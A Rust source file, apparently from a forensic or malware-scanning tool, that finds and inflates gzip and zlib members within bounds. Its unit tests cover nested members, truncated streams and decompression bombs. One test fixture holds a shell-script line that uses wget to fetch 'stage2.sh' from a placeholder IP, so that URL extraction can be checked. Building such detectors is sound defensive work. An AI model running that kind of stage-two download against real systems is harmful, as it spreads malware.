//! Members of gzip and streams of zlib as they lie in memory and in files: unpacked within bounds.

use crate::carve::scan::{AHEAD, Decoder, Found, Open, Step, Text, begin, within};
use flate2::{Decompress, FlushDecompress, Status};

/// Bytes that one member may give at once.
const MOST: usize = 1 << 20;

/// Bytes without an error that make a member of what looks like one.
const LEAST: usize = 64;

/// Looks at a byte that may begin a member; returns where the next may begin.
pub(in crate::carve) fn member(text: &Text<'_>, at: usize, found: &mut Found) -> usize {
    let here = text.slice(at..text.length().min(at + AHEAD));
    let (step, body) = match here {
        [0x1f, 0x8b, 8, flags, ..] if flags & 0xe0 == 0 => (Step::Gzip, gzip_body(here, *flags)),
        // The four levels of a window of 32 KiB; their check sums to a multiple of 31.
        [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => (Step::Zlib, Some(2)),
        _ => return at,
    };
    let Some(body) = body.and_then(|body| here.get(body..)).filter(|body| plausible(body)) else {
        return at;
    };
    if text.way.then(step).is_none() || !found.afford(LEAST) {
        return at;
    }
    let mut inflater = found.inflater();
    let Some(inflated) = inflate(&mut inflater, body) else {
        found.keep(inflater);
        return at;
    };
    let end = at + (here.len() - body.len()) + inflated.read;
    if inflated.cut {
        // It is unpacked to its end, as the bytes come.
        if found.begun().free()
            && found.afford(inflated.bytes.len())
            && let Some(way) = text.way.then(step)
        {
            let decoder = Decoder::Member(inflater);
            let open = Open::new(decoder, way, text, at, end, inflated.bytes);
            begin(open, text.slice(end..text.length()), found);
            return end;
        }
        found.longer();
    }
    found.keep(inflater);
    within(text, at, step, inflated.bytes, found);
    end
}

/// Where a gzip member's compressed bytes begin.
fn gzip_body(member: &[u8], flags: u8) -> Option<usize> {
    let mut at = 10;
    if flags & 4 != 0 {
        let length: [u8; 2] = member.get(at..at + 2)?.try_into().ok()?;
        at += 2 + usize::from(u16::from_le_bytes(length));
    }
    // Name and comment, each ended by a NUL.
    for flag in [8, 16] {
        if flags & flag != 0 {
            at += member.get(at..)?.iter().take(1024).position(|b| *b == 0)? + 1;
        }
    }
    Some(if flags & 2 != 0 { at + 2 } else { at })
}

/// Whether the first block can be one: most of what only looks like a member fails here.
fn plausible(body: &[u8]) -> bool {
    let Some([first, second, ..]) = body.first_chunk::<5>() else { return false };
    match first >> 1 & 3 {
        // As it lies: a length and its complement.
        0 => matches!(body, [_, a, b, c, d, ..] if *a == !*c && *b == !*d),
        1 => true,
        // Tables of lengths: 30 literals' and distances' codes at most.
        2 => first >> 3 <= 29 && second & 31 <= 29,
        _ => false,
    }
}

struct Inflated {
    bytes: Vec<u8>,
    /// Compressed bytes taken.
    read: usize,
    /// Whether there was more.
    cut: bool,
}

fn inflate(inflater: &mut Decompress, body: &[u8]) -> Option<Inflated> {
    inflater.reset(false);
    let mut bytes = Vec::with_capacity(4 * LEAST);
    loop {
        let before = (inflater.total_in(), bytes.len());
        let read = usize::try_from(inflater.total_in()).unwrap_or(usize::MAX);
        let rest = body.get(read..).unwrap_or_default();
        let status = inflater.decompress_vec(rest, &mut bytes, FlushDecompress::None);
        let read = usize::try_from(inflater.total_in()).unwrap_or(usize::MAX);
        let ended = matches!(status, Ok(Status::StreamEnd));
        let failed = status.is_err();
        let stuck = (inflater.total_in(), bytes.len()) == before;
        if ended || failed || stuck || bytes.len() >= MOST {
            // A few bytes come out of anything; an end or many bytes do not.
            let enough = bytes.len() >= LEAST && (!failed || bytes.len() >= 8 * LEAST)
                || ended && bytes.len() >= 8;
            let cut = !ended && !failed;
            return enough.then_some(Inflated { bytes, read, cut });
        }
        let more = bytes.len().max(LEAST).min(MOST - bytes.len() + 1);
        bytes.reserve(more);
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::panic)]
    use super::*;
    use crate::carve::{Stream, kinds::tests::shown};
    use flate2::Compression;
    use flate2::write::{GzEncoder, ZlibEncoder};
    use std::io::Write;

    fn carved(bytes: &[u8]) -> (Vec<crate::carve::Carved>, crate::carve::Cut) {
        let mut found = Found::default();
        Stream::new(&mut found, 0).feed(bytes);
        found.finish()
    }

    fn gzip(bytes: &[u8]) -> Vec<u8> {
        let mut out = GzEncoder::new(Vec::new(), Compression::default());
        out.write_all(bytes).unwrap();
        out.finish().unwrap()
    }

    fn zlib(bytes: &[u8], level: u32) -> Vec<u8> {
        let mut out = ZlibEncoder::new(Vec::new(), Compression::new(level));
        out.write_all(bytes).unwrap();
        out.finish().unwrap()
    }

    const TEXT: &[u8] =
        b"#!/bin/sh\nwget http://198.51.100.77/stage2.sh and some more words of a script\n";

    #[test]
    fn members_are_opened_and_name_their_way() {
        let twice = gzip(&gzip(TEXT));
        for (member, way) in [
            (gzip(TEXT), "gzip"),
            (zlib(TEXT, 1), "zlib"),
            (zlib(TEXT, 6), "zlib"),
            (zlib(TEXT, 9), "zlib"),
            (zlib(TEXT, 0), "zlib"),
            (twice, "gzip>gzip"),
        ] {
            for before in [0_usize, 1, 62, 63, 64, 4095] {
                let mut bytes = vec![0xee; before];
                bytes.extend(&member);
                bytes.extend([0xee; 100]);
                let (found, _) = carved(&bytes);
                let url = found.iter().find(|c| c.kind == "url" && c.way.to_string() == way);
                let url = url.unwrap_or_else(|| panic!("{way} after {before}{}", shown(&found)));
                assert_eq!(url.value, b"http://198.51.100.77/stage2.sh");
                assert_eq!(url.offset, before as u64);
            }
        }
    }

    #[test]
    fn a_member_cut_short_gives_its_beginning() {
        let mut long = TEXT.to_vec();
        let noise = |n: u32| n.wrapping_mul(2_654_435_761).to_le_bytes();
        long.extend((0..400_000).flat_map(noise));
        let mut bytes = gzip(&long);
        bytes.truncate(9_000);
        let (found, _) = carved(&bytes);
        assert!(found.iter().any(|c| c.kind == "url"), "{}", shown(&found));
    }

    #[test]
    fn a_long_member_is_unpacked_to_its_end() {
        let noise = |n: u32| n.wrapping_mul(2_654_435_761).to_le_bytes();
        let mut long: Vec<u8> = (0..500_000).flat_map(noise).collect();
        // Again and again, so that some lie across the pieces that are scanned at once.
        for at in (1000..1_990_000).step_by(4096) {
            let url = format!("\0http://198.51.100.77/{at}\0");
            long.get_mut(at..at + url.len()).unwrap().copy_from_slice(url.as_bytes());
        }
        for member in [gzip(&long), zlib(&long, 6)] {
            let mut bytes = vec![0xee; 700];
            bytes.extend(&member);
            bytes.extend([0; 5000]);
            bytes.extend(b"http://198.51.100.78/behind\0");
            let (found, cut) = carved(&bytes);
            assert!(cut.nothing() && cut.longer == 0, "{cut}");
            let within =
                found.iter().filter(|c| c.kind == "url" && c.offset == 700 && c.count == 1);
            assert_eq!(within.count(), (1000..1_990_000).step_by(4096).count());
            assert!(found.iter().any(|c| c.value == b"http://198.51.100.78/behind"));
        }
    }

    #[test]
    fn a_bomb_is_bounded_and_told() {
        let bomb = gzip(&vec![b' '; 64 << 20]);
        let (_, cut) = carved(&bomb);
        assert_eq!((cut.encoded, cut.longer), (0, 1));
        // Many small bombs: the budget ends, and that is told.
        let small = zlib(&vec![b' '; 1 << 20], 9);
        let many: Vec<u8> = (0..64).flat_map(|_| small.clone()).collect();
        let (_, cut) = carved(&many);
        assert!(cut.encoded > 0, "{cut:?}");
    }

    #[test]
    fn what_only_looks_like_a_member_is_none() {
        let mut state = 0x2545_f491_4f6c_dd1d_u64;
        let mut bytes = vec![0_u8; 1 << 20];
        for (i, byte) in bytes.iter_mut().enumerate() {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            *byte = match i % 97 {
                0 => 0x1f,
                1 => 0x8b,
                2 => 8,
                3 => 0,
                40 => 0x78,
                41 => 0x9c,
                _ => (state >> 32) as u8,
            };
        }
        let (found, cut) = carved(&bytes);
        assert!(cut.nothing(), "{cut} {}", shown(&found));
    }
}
